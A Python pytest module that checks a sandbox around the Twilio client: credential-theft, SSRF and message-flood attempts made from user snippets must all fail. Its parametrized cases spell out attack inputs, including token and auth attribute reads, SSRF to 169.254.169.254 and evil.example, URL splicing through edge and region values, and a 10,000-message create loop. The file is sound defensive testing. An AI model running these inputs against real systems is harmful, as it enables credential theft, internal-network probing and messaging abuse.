"""Credential theft, SSRF and flood attempts through the twilio objects a snippet gets: all must fail.

The snippets run in the real sandbox (zygote, child process, language wall) against the emulator on loopback,
and their raw results are checked *before* any masking: a secret that reached the child would show up here.
"""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest

from sandbox.environment import LazyModule, RunContext
from sandbox.limits import Limits
from sandbox.result import RunResult
from sandbox.supervisor import Sandbox
from tests.escapes.graph import assert_no_escape_reachable
from tests.zingyconn.capability import (
    ACCOUNT_SID,
    API_KEY,
    API_SECRET,
    AUTH_TOKEN,
    OTHER_TOKEN,
    RECIPIENT,
    SENDER,
    World,
    twilio_world,
)
from zingyconn.egress.broker import EgressBroker
from zingyconn.egress.protocol import OP_CONNECT, OP_CREDENTIALS
from zingyconn.egress.ratelimit import Rate, SqlRateLimiter
from zingyconn.runtime import SNIPPET_ENVIRONMENT
from zingyconn.snippet.environment import HIDDEN_ATTRIBUTES, environment
from zingyconn.twilio.client import PLACEHOLDER_PASSWORD, connection_client
from zingyconn.twilio.profile import TwilioProfile

SECRETS = (AUTH_TOKEN, API_SECRET, OTHER_TOKEN)
CLIENT = 'c = zingyConn.twilio("main")\n'
LIMITS = Limits(wall_seconds=10, cpu_seconds=10)


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """The emulator and store, shared by this module's snippets."""
    with twilio_world(tmp_path_factory.mktemp("theft")) as running:
        yield running


@pytest.fixture(scope="module")
def sandbox() -> Iterator[Sandbox]:
    """A sandbox started with the production snippet environment."""
    with Sandbox(environment=SNIPPET_ENVIRONMENT) as running:
        yield running


@pytest.fixture(scope="module")
def broker(world: World) -> Iterator[EgressBroker]:
    """The broker in emulator mode."""
    broker = EgressBroker(world.store, base_url=world.emulator.base_url)
    yield broker
    broker.close()


def run_raw(sandbox: Sandbox, broker: EgressBroker, source: str, *, tenant: str = "acme", **limits: Any) -> RunResult:
    """Run *source* with a broker session but WITHOUT masking, and fail if any secret is in the raw result."""
    run_limits = LIMITS.replace(**limits) if limits else LIMITS
    session = broker.session(tenant, max_requests=run_limits.egress_requests)
    result = sandbox.run(source, limits=run_limits, on_request=session.request)
    raw = json.dumps(result.to_json())
    for secret in SECRETS:
        assert secret not in raw, f"a secret reached the snippet's output: {raw[:500]}"
    return result


def _error(result: RunResult) -> tuple[str, str | None]:
    assert result.error is not None, f"expected a failure, got {result.value!r}"
    return result.error.type, result.error.exception


HIDDEN = ("SnippetError", "AttributeError")
PRIVATE = ("SnippetError", "AttributeError")  # private attributes of objects the snippet did not make


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        pytest.param(CLIENT + "return c.password", HIDDEN, id="password"),
        pytest.param(CLIENT + "return c.auth", HIDDEN, id="auth-tuple"),
        pytest.param(CLIENT + "return c.http_client", HIDDEN, id="http-client"),
        pytest.param(CLIENT + "return c.credential_provider", HIDDEN, id="credential-provider"),
        pytest.param(CLIENT + "return c.api.twilio.password", HIDDEN, id="domain-backref"),
        pytest.param(CLIENT + "return c.api.v2010.domain.twilio.auth", HIDDEN, id="version-domain-backref"),
        pytest.param(CLIENT + "return c.messages.list.__self__", ("CompileError", None), id="bound-self"),
        pytest.param(CLIENT + "return c.__dict__", ("CompileError", None), id="dunder-dict"),
        pytest.param(CLIENT + "return c.messages._version", PRIVATE, id="private-version"),
        pytest.param(CLIENT + "return vars(c)", ("SnippetError", "NameError"), id="vars"),
        pytest.param(CLIENT + "return getattr(c, 'pass' + 'word')", ("SnippetError", None), id="dynamic-getattr"),
        pytest.param(CLIENT + "return '{0.password}'.format(c)", HIDDEN, id="format-string"),
        pytest.param(CLIENT + "return '{0.api.twilio.auth}'.format(c)", HIDDEN, id="format-backref"),
        pytest.param(
            CLIENT + "return c.request('GET', 'http://169.254.169.254/latest/meta-data/')", HIDDEN, id="request-ssrf"
        ),
        pytest.param(CLIENT + "return c.messages.get_page('https://evil.example/x')", HIDDEN, id="get-page-ssrf"),
        pytest.param(
            CLIENT + "return c.api.v2010.fetch(method='GET', uri='http://169.254.169.254/')", HIDDEN, id="version-fetch"
        ),
        pytest.param(CLIENT + "return c.api.request('GET', 'https://evil.example/')", HIDDEN, id="domain-request"),
        pytest.param(
            CLIENT + "c.api.base_url = 'http://evil.example'\nreturn 1", ("SnippetError", "TypeError"), id="base-url"
        ),
        pytest.param(CLIENT + "return c.api.base_url", HIDDEN, id="base-url-read"),
        pytest.param(CLIENT + "c.edge = 'x@evil.example#'\nreturn 1", ("SnippetError", "TypeError"), id="edge-write"),
        pytest.param(
            f"import twilio\nc = twilio.Client('{ACCOUNT_SID}', 'x' * 32, edge='x@evil.example#')\n"
            "return c.messages.list()",
            ("SnippetError", "ValueError"),
            id="edge-splice",
        ),
        pytest.param(
            f"import twilio\nc = twilio.Client('{ACCOUNT_SID}', 'x' * 32, region='evil.example/')\nreturn 1",
            ("SnippetError", "ValueError"),
            id="region-splice",
        ),
        pytest.param(CLIENT + "return c.messages.create_async(to='+1')", HIDDEN, id="async-coroutine"),
        pytest.param("return zingyConn._channel", PRIVATE, id="zingyconn-channel"),
        pytest.param("import twilio\nreturn twilio.Client.channel", HIDDEN, id="client-class-channel"),
        pytest.param("import twilio.http", ("SnippetError", "ImportError"), id="import-http"),
        pytest.param("from twilio.base import client_base", ("SnippetError", "ImportError"), id="import-client-base"),
        pytest.param("import twilio\nc = twilio.Client()\nreturn 1", ("SnippetError", "ValueError"), id="env-creds"),
        pytest.param(
            "import twilio\nc = twilio.Client('AC1', 'tok', http_client=None, credential_provider=1)\nreturn 1",
            ("SnippetError", "TypeError"),
            id="credential-provider-arg",
        ),
        pytest.param('k = zingyConn.twilio("keyed")\nreturn k.password', HIDDEN, id="api-key-password"),
        pytest.param(
            CLIENT + f"m = c.messages.create(to='{RECIPIENT}', from_='{SENDER}', body='x')\nreturn m._context",
            PRIVATE,
            id="instance-private",
        ),
        pytest.param(
            f"import twilio\nclass Mine(twilio.Client):\n    def steal(self):\n        return self._http_client\n"
            f"return Mine('{ACCOUNT_SID}', 'x').steal()",
            PRIVATE,
            id="subclass-client-private",
        ),
        pytest.param(
            f"import twilio\nclass Mine(twilio.Client):\n    def steal(self):\n        return super().password\n"
            f"return Mine('{ACCOUNT_SID}', 'x').steal()",
            HIDDEN,
            id="super-client-password",
        ),
        pytest.param(
            CLIENT + f"import twilio\ntwilio.Client.__init__(c, '{ACCOUNT_SID}', 'x')\nreturn c.username",
            ("SnippetError", "TypeError"),
            id="client-reinit",
        ),
        pytest.param(CLIENT + "import copy\nreturn copy.copy(c)", ("SnippetError", "TypeError"), id="client-copy"),
        pytest.param(
            CLIENT + "match c:\n    case object(password=p):\n        return p", HIDDEN, id="client-match-password"
        ),
        pytest.param(
            CLIENT + "import operator\nreturn operator.attrgetter('password')(c)", HIDDEN, id="client-attrgetter"
        ),
        pytest.param(CLIENT + "return getattr(c, '_region')", PRIVATE, id="client-private-getattr"),
        pytest.param(CLIENT + "return type(c)('AC' + '0' * 32, 'x').password", HIDDEN, id="client-type-construct"),
    ],
)
def test_theft_attempt_fails(
    sandbox: Sandbox, broker: EgressBroker, source: str, expected: tuple[str, str | None]
) -> None:
    """Every way to the token, the transport or a foreign URL ends in one specific error, never in a value."""
    result = run_raw(sandbox, broker, source)
    error_type, exception = _error(result)
    assert error_type == expected[0], result.error
    if expected[1] is not None:
        assert exception == expected[1], result.error


def test_twilio_rest_import_gives_the_brokered_client(sandbox: Sandbox, broker: EgressBroker) -> None:
    """``import twilio.rest`` works, and its Client is the same brokered class as ``twilio.Client``."""
    result = run_raw(sandbox, broker, "import twilio.rest\nimport twilio\nreturn twilio.rest.Client is twilio.Client")
    assert result.ok, result.error
    assert result.value is True


def test_snippet_own_token_stays_in_the_snippet(world: World, sandbox: Sandbox, broker: EgressBroker) -> None:
    """A direct client keeps only the placeholder; its requests still authenticate (the host holds the token)."""
    source = (
        f"import twilio\ntoken = ''.join(['{AUTH_TOKEN[:16]}', '{AUTH_TOKEN[16:]}'])\n"
        f"c = twilio.Client('{ACCOUNT_SID}', token)\n"
        "return [len(c.messages.list(limit=1)) >= 0, c.username]"
    )
    result = run_raw(sandbox, broker, source)
    assert result.value == [True, ACCOUNT_SID]
    assert world.emulator.requests[-1].username == ACCOUNT_SID


def test_host_side_client_holds_only_the_placeholder(broker: EgressBroker) -> None:
    """Even outside the sandbox, a brokered client's password and auth are the placeholder."""
    client = broker.client("acme", "main")
    assert client.password == PLACEHOLDER_PASSWORD
    assert client.auth == (ACCOUNT_SID, PLACEHOLDER_PASSWORD)
    assert AUTH_TOKEN not in repr(vars(client))
    assert AUTH_TOKEN not in repr(vars(client.http_client))


def test_message_flood_is_stopped_by_the_run_request_cap(world: World, sandbox: Sandbox, broker: EgressBroker) -> None:
    """A 10 000-iteration create loop ends with QuotaExceededError after the run's request cap."""
    before = len(world.emulator.requests)
    source = CLIENT + f"for i in range(10000):\n    c.messages.create(to='{RECIPIENT}', from_='{SENDER}', body=str(i))"
    result = run_raw(sandbox, broker, source, egress_requests=30)
    assert _error(result)[0] == "QuotaExceededError"
    assert "30" in result.error.message if result.error else False
    assert len(world.emulator.requests) - before < 30


def test_message_flood_is_stopped_by_the_tenant_rate_limit(world: World, sandbox: Sandbox) -> None:
    """With a generous request cap, the tenant's token bucket stops the loop with a rate-limit error."""
    world.store.put("flood", "main", TwilioProfile(account_sid=ACCOUNT_SID, secret=AUTH_TOKEN))
    limiter = SqlRateLimiter(world.engine, clock=lambda: 0.0)
    broker = EgressBroker(
        world.store,
        base_url=world.emulator.base_url,
        rate_limiter=limiter,
        message_rate=Rate(1.0, burst=20),
        max_rate_wait_seconds=0.0,  # the limiter's clock is frozen: no token would come however long a send waited
    )
    before = len(world.emulator.requests)
    source = CLIENT + f"for i in range(10000):\n    c.messages.create(to='{RECIPIENT}', from_='{SENDER}', body=str(i))"
    result = run_raw(sandbox, broker, source, tenant="flood", egress_requests=20_000)
    assert _error(result)[0] == "QuotaExceededError"
    assert result.error is not None
    assert "rate limited" in result.error.message
    assert len(world.emulator.requests) - before == 20
    broker.close()


def test_refused_request_is_catchable_inside_the_snippet(sandbox: Sandbox, broker: EgressBroker) -> None:
    """A refusal (here: the run's request cap) is an exception the snippet can catch and report."""
    source = CLIENT + (
        "try:\n    for i in range(5):\n        c.messages.list(limit=1)\n"
        "except Exception as exc:\n    return ['caught', str(exc)]\nreturn 'no error'"
    )
    result = run_raw(sandbox, broker, source, egress_requests=3)
    assert result.ok, result.error
    assert result.value[0] == "caught"
    assert "3" in result.value[1]


class _FakeChannel:
    """Answers connect/credentials like the broker, in-process, for graph walks."""

    def request(self, op: str, payload: Mapping[str, Any]) -> Any:
        if op == OP_CONNECT:
            return {"found": True, "account_sid": ACCOUNT_SID, "username": API_KEY}
        if op == OP_CREDENTIALS:
            return {"credential": 0}
        raise AssertionError(f"no network in graph walks ({op})")


def _walk_roots() -> list[tuple[str, object]]:
    env = environment(RunContext(host=_FakeChannel(), context={}))
    roots: list[tuple[str, object]] = [
        (name, facade.build() if isinstance(facade, LazyModule) else facade)  # what an import of it gives
        for name, facade in env.modules.items()
    ]
    roots.append(("zingyConn", env.names["zingyConn"]))
    roots.append(("connection client", connection_client(_FakeChannel(), "main")))
    return roots


@pytest.mark.slow
@pytest.mark.parametrize(("name", "root"), _walk_roots(), ids=lambda value: value if isinstance(value, str) else "")
def test_twilio_facades_reach_no_module_within_six_hops(name: str, root: object) -> None:
    """Public attribute walks (as the guard allows) from every twilio façade find no module, frame or builtins."""
    assert assert_no_escape_reachable(root, depth=6, hidden=HIDDEN_ATTRIBUTES) > 0, name


def test_child_without_language_wall_has_no_network(tmp_path: Path) -> None:
    """A child given raw sockets (wall assumed broken) cannot connect anywhere, not even to the test's listener."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    accepted: list[object] = []
    threading.Thread(target=lambda: accepted.append(listener.accept()), daemon=True).start()
    port = listener.getsockname()[1]
    with Sandbox(environment="tests.zingyconn.broken_wall:environment") as sandbox:
        if sandbox.hardening.get("network_namespace") != "active":
            pytest.skip(f"no network namespace here: {sandbox.hardening.get('network_namespace')}")
        # 192.0.2.1 (TEST-NET-1) is only tried inside the empty namespace, where no route exists: nothing leaves.
        source = f"return [raw_connect('127.0.0.1', {port}), raw_connect('192.0.2.1', 443), raw_connect('::1', {port})]"
        result = sandbox.run(source, limits=LIMITS)
    listener.close()
    assert result.ok, result.error
    assert all(outcome != "connected" for outcome in result.value), result.value
    assert accepted == []
